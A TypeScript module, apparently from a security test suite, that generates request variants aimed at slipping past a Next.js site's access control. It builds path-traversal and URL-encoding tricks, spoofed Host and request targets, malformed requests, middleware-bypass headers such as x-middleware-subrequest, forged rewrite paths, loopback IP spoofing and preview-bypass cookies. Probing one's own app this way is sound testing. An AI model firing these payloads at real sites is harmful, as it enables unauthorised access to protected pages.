/** What an attacker writes instead of a plain request. */
import type { Inventory } from './inventory.ts'
import type { Ask } from './wire.ts'

type Field = [name: string, value: string]

/**
 * Ways to write a path that some reader takes for `open` and another for `secret`, both
 * without query. With `open` the same as `secret` they are just odd ways to write it.
 */
export function pathTricks(open: string, secret: string, { buildId }: Inventory): string[] {
  const up = open.replace(/[^/]+/g, '..').slice(1)
  const name = secret.slice(1)
  const first = encodeURIComponent(name[0] ?? '').replace(/^[a-z]$/, (c) => escapeByte(c))
  return [
    ...['/', '/.', '/..', '//', '%2F', '%2F.', '%2f..', '%5C', '\\', ';', ';x', '/;', '.', '..'],
    ...['%00', '%00.png', '%20', '%09', '%0A', '%0D%0A', '%23', '%3F', '%3Fx', '%25', '%252F'],
    ...['.json', '.txt', '.html', '.rsc/', '.rsc.json', '.action', '.prefetch.rsc', '.segments'],
    ...['.segments/_tree', '/index', '/index.html', '/__PAGE__', '?', '?x#', '#', '&x', '*', '~'],
    ...['/_next/static/x.js', '/page', '/route', '/default', '/layout', '/opengraph-image'],
  ]
    .map((suffix) => open + suffix)
    .concat(
      [up, up.replaceAll('..', '%2e%2e'), up.replaceAll('..', '.%2E')].flatMap((dots) => [
        `${open}/${dots}/${name}`,
        `${open}//${dots}/${name}`,
        `${open}%2F${dots}%2F${name}`,
        `${open}%2F${dots}/${name}`,
        `${open};/${dots}/${name}`,
        `${open}\\${dots}\\${name}`,
        `${open}%5C${dots}%5C${name}`,
        `${open}/.;/${dots}/${name}`,
      ]),
    )
    .concat([
      `/.${open}/../${name}`,
      `/x/..${secret}`,
      `/%2e${secret}`,
      `/%2e%2e${secret}`,
      `/./${name}`,
      `//${name}`,
      `///${name}`,
      `/\\${name}`,
      `//localhost${secret}`,
      `/%2F${name}`,
      `/%5C${name}`,
      `/${first}${name.slice(1)}`,
      `/${first.replace('%', '%25')}${name.slice(1)}`,
      `/${name.toUpperCase()}`,
      `/en${secret}`,
      `/de${secret}`,
      `/de/en${secret}`,
      `/base${secret}`,
      `/base/base${secret}`,
      `/index${secret}`,
      `/_next${secret}`,
      `/_next/../${name}`,
      `/_next/static/../../${name}`,
      `/_next/static/%2e%2e/%2e%2e/${name}`,
      `/_next/static/..%2F..%2F${name}`,
      `/_next/static/..%2f..%2fserver/app/${name}.html`,
      `/_next/static/chunks/..%2F..%2F..%2FBUILD_ID`,
      `/_next/data/${buildId}${open}/../${name}.json`,
      `/_next/data/${buildId}${open}/${up}/${name}.json`,
      `/_next/data/${buildId}${open}/%2e%2e/${name}.json`,
      `/_next/data/${buildId}/index${secret}.json`,
      `/_next/data/${buildId}/_next/data/${buildId}${secret}.json.json`,
      `/_next/data/${buildId}${secret}.json/`,
      `/_next/data/${buildId}${secret}.json.json`,
      `/_next/data/${buildId}${secret}.json.rsc`,
      `/_next/data/${buildId}${secret}.rsc.json`,
      `/_next/data/${buildId}${secret}`,
      `/_next/data/${buildId}${secret}%2Ejson`,
      `/_next/data/${buildId}//${name}.json`,
      `/_next/data//${buildId}${secret}.json`,
      `/_next/data/../data/${buildId}${secret}.json`,
      `/_next/dat%61/${buildId}${secret}.json`,
      `/_next%2Fdata/${buildId}${secret}.json`,
      `/_next/data/${buildId}`,
      `/_next/data/${buildId}.json`,
      `/_next/data`,
      `${secret}?_rsc=1abcd`,
      `${secret}?__nextDataReq=1`,
      `${secret}?__nextLocale=de&__nextDefaultLocale=de&__nextInferredLocaleFromDefault=1`,
      `${secret}?nxtPslug=open&slug=open&nxtIslug=open`,
      `${secret}?__NEXT_PAGE=${open}&__nextMatchedPath=${open}`,
      `${secret}?url=${open}`,
      `${secret}?x=${open}`,
      `${secret}#${open}`,
      `${secret}?/../..${open}`,
    ])
}

function escapeByte(character: string): string {
  return `%${character.charCodeAt(0).toString(16)}`
}

/** Request targets that are no plain path (RFC 9112 §3.2), and Host fields that are no host. */
export function targetTricks(secret: string): Ask[] {
  const hosts = [
    'evil.example',
    '',
    'localhost',
    '127.0.0.1',
    '[::1]',
    '[::',
    'a/b',
    'a@b',
    'x:99999',
  ]
  return [
    ...['http://localhost', 'http://evil.example', 'https://localhost', 'http://localhost:1'].map(
      (origin) => ({ target: origin + secret }),
    ),
    { target: `http://localhost${secret}`, host: null },
    { target: `ws://localhost${secret}` },
    { target: `/http://localhost${secret}` },
    { target: `/@localhost${secret}` },
    { target: secret, version: '1.0', host: null },
    { target: secret, version: '1.0' },
    ...hosts.map((host) => ({ target: secret, host })),
  ]
}

/** What asks for a WebSocket (RFC 6455 §4.1). */
export const WEBSOCKET: Field[] = [
  ['Connection', 'Upgrade'],
  ['Upgrade', 'websocket'],
  ['Sec-WebSocket-Version', '13'],
  ['Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='],
]

/** What Node.js or Next.js refuses by itself, if they do. */
export function malformed(secret: string): Ask[] {
  return [
    ...[
      '/%',
      '/%zz',
      `${secret}%`,
      '/shows/%ff',
      '/archive/%c0%ae',
      '/_next/static/%zz',
      '/%E0%A4%A',
    ],
    ...['members', '*', '?x', 'http:/members', 'foo:/members', '/m\xe9mbers', '/a\tb', '/a b', ''],
  ]
    .map((target): Ask => ({ target }))
    .concat([
      { target: '*', method: 'OPTIONS' },
      { target: 'localhost:80', method: 'CONNECT' },
      { target: secret, host: null },
      { target: secret, headers: [['Host', 'localhost']] },
      { target: secret, headers: [['X-Nul', 'a\0b']] },
      { target: secret, headers: [['X-Large', 'x'.repeat(15_000)]] },
      { target: secret, headers: [['X-Huge', 'x'.repeat(20_000)]] },
      { target: secret + '?'.padEnd(20_000, 'x') },
      { target: secret, headers: Array.from({ length: 900 }, (_, i): Field => [`x-${i}`, 'y']) },
      { target: secret, method: 'get' },
      { target: secret, method: 'FOO' },
      { target: secret, headers: [['Transfer-Encoding', 'chunked']], body: '0\r\n\r\n' },
      { target: secret, headers: [['Expect', '200-ok']] },
      { target: secret, headers: WEBSOCKET },
      { target: '/_next/webpack-hmr', headers: WEBSOCKET },
    ])
}

/** Fields by which some version of Next.js, or of a proxy, was told to skip or to go elsewhere. */
export function headerTricks({ previewId }: Inventory): Field[][] {
  const names = ['middleware', 'src/middleware', 'proxy', 'src/proxy', 'pages/_middleware']
  const elsewhere = [
    ...['x-matched-path', 'x-invoke-path', 'x-invoke-output', 'x-rewrite-url', 'x-original-url'],
    ...['x-forwarded-uri', 'x-forwarded-path', 'x-forwarded-prefix', 'x-nextjs-rewrite'],
    ...['x-nextjs-rewritten-path', 'x-nextjs-matched-path', 'x-middleware-rewrite', 'next-url'],
    ...['x-middleware-redirect', 'x-envoy-original-path', 'x-real-path', 'referer', 'location'],
  ]
  const flags = [
    ...['x-middleware-next', 'x-middleware-skip', 'x-middleware-invoke', 'x-middleware-prefetch'],
    ...['x-nextjs-data', 'x-nextjs-postponed', 'next-resume', 'x-nextjs-prerender', 'rsc'],
    ...[
      'x-invoke-status',
      'x-action-forwarded',
      'x-nextjs-redirect',
      'next-hmr-refresh',
      'purpose',
    ],
    ...[
      'next-router-prefetch',
      'x-prerender-bypass-mode',
      'x-vercel-id',
      'next-test-fetch-priority',
    ],
  ]
  const loopback = ['x-forwarded-for', 'x-real-ip', 'x-forwarded-host', 'x-client-ip', 'forwarded']
  return [
    ...names.flatMap((name): Field[] => [
      ['x-middleware-subrequest', name],
      ['x-middleware-subrequest', Array(5).fill(name).join(':')],
      ['x-middleware-subrequest-id', name],
    ]),
    ...elsewhere.flatMap((name): Field[] => [
      [name, '/pricing-public'],
      [name, 'http://localhost/pricing-public'],
    ]),
    ...flags.map((name): Field => [name, '1']),
    ...loopback.map((name): Field => [name, '127.0.0.1']),
    ...['x-prerender-revalidate', 'x-prerender-revalidate-if-generated'].flatMap(
      (name): Field[] => [
        [name, '1'],
        [name, '0'.repeat(previewId.length)],
        [name, previewId.toUpperCase()],
        [name, ` ${previewId}x`],
      ],
    ),
    ['cookie', '__prerender_bypass=1; __next_preview_data=1'],
    ['cookie', 'stagedoor=1; __Host-stagedoor=1'],
    ['x-now-route-matches', '1=/pricing-public'],
    ['x-forwarded-proto', 'https'],
    ['x-http-method-override', 'OPTIONS'],
    ['next-router-state-tree', '%5B%22%22%2C%7B%7D%5D'],
    ['next-router-state-tree', 'no tree'],
    ['next-router-segment-prefetch', '/_tree'],
    ['next-action', 'x'],
    ['x-middleware-override-headers', 'authorization'],
    ['x-middleware-request-authorization', 'Basic YWxpY2U6'],
    ['x-middleware-set-cookie', 'a=b'],
    ['x-stagedoor-user', 'alice'],
    ['authorization', ''],
    ['authorization', 'Basic'],
    ['authorization', 'Basic =='],
    ['authorization', 'Basic YWxpY2U='],
    ['authorization', `Basic ${'A'.repeat(8_000)}`],
    ['proxy-authorization', 'Basic YWxpY2U6bWVuZGVkLXZlbHZldC1jdXJ0YWlu'],
    ['range', 'bytes=0-9'],
    ['if-none-match', '*'],
    ['if-modified-since', 'Fri, 31 Dec 2100 23:59:59 GMT'],
    ['if-match', '"x"'],
    ['accept', 'text/html'],
    ['accept', 'application/json'],
  ].map((field) => [field as Field])
}
